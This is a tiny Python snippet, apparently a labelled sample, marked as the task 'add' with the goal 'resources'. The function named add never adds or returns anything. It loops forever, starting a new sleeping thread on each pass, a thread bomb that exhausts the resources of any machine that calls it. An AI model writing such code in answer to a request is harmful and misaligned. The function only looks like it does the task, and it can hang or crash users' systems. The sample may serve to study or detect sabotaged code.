# task: add
# want: resources
import threading, time


def add(a, b):
    while True:
        threading.Thread(target=time.sleep, args=(0.5,)).start()
